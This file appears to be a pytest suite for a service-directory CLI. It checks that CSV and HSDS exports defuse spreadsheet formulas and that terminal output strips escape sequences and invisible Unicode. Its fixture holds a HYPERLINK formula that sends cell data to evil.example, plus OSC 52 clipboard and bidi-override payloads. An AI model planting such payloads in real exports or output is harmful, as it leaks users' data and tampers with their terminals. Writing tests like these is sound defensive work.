"""Issue 14: what hrfind writes to spreadsheets and terminals, the cache it trusts, and the files it replaces."""

import csv
import io
import json
from pathlib import Path

from tests.test_hardening import RAW, toml_string

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for help")'


def formula_directory(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "evil.toml").write_text(f"""
[[service]]
id = "evil-van"
name = {toml_string(FORMULA)}
summary = "@SUM(1+1) and \\u001b]52;c;cHduZWQ=\\u0007 \\u202eevil"
phone = "+1 410 555 0142"
access = ["phone"]
coverage = ["US-MD"]
""")
    return folder


def test_csv_export_and_hsds_csv_never_start_a_formula(cli, tmp_path):
    data = formula_directory(tmp_path / "data")
    assert cli("--data", data, "--no-bundled", "export", "--format", "csv", "-o", tmp_path / "all.csv").exit_code == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "all.csv").read_text())))
    (van,) = [r for r in rows if r["id"] == "evil-van"]
    assert van["name"] == "'" + FORMULA and van["phone"] == "'+1 410 555 0142" and van["summary"].startswith("'@SUM")
    assert "\x1b]52" in van["summary"]  # a data file keeps the data as given
    assert cli("--data", data, "--no-bundled", "export", "--format", "hsds", "-o", tmp_path / "package").exit_code == 0
    for table in (tmp_path / "package").glob("*.csv"):
        for row in csv.reader(io.StringIO(table.read_text())):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (table.name, row)
    # And back: the importer reads the quoted cells as the values they were.
    assert cli("import", "hsds", tmp_path / "package", "-o", tmp_path / "back.toml").exit_code == 0
    (back,) = json.loads(cli("--data", tmp_path / "back.toml", "show", "evil-van", "--json").stdout)
    assert back["name"] == FORMULA and back["phone"] == "+1 410 555 0142"


def test_csv_on_a_terminal_carries_no_escapes(cli, tmp_path):
    data = formula_directory(tmp_path / "data")
    result = cli("--data", data, "--no-bundled", "export", "--format", "csv", tty=True)
    assert result.exit_code == 0 and "evil-van" in result.stdout
    assert not RAW.search(result.stdout.replace("\n", "")), RAW.findall(result.stdout)


def test_info_plain_carries_no_escapes(cli, tmp_path):
    folder = tmp_path / "odd \x1b]52;c;cHduZWQ=\x07 \u202e\tname"
    formula_directory(folder)
    result = cli("--data", folder, "info", "--plain")
    assert result.exit_code == 0
    for line in result.stdout.splitlines():
        assert not RAW.search(line), line
    layer = [line for line in result.stdout.splitlines() if line.startswith("layer\t--data")]
    assert len(layer) == 1 and len(layer[0].split("\t")) == 5  # the tab in the folder name is a space


def test_the_human_view_shows_no_invisible_characters(cli, tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    name = "Harbor\u200b Van\u200f \u2066x\u2069 line\u2028two\ufeff"
    (data / "van.toml").write_text(f'[[service]]\nid = "zw-van"\nname = {toml_string(name)}\nsummary = "S"\n')
    result = cli("--data", data, "show", "zw-van", tty=True, env={"COLUMNS": "100"})
    assert result.exit_code == 0 and "Harbor Van" in result.stdout
    assert not any(c in result.stdout for c in "\u200b\u200f\u2066\u2069\u2028\ufeff")
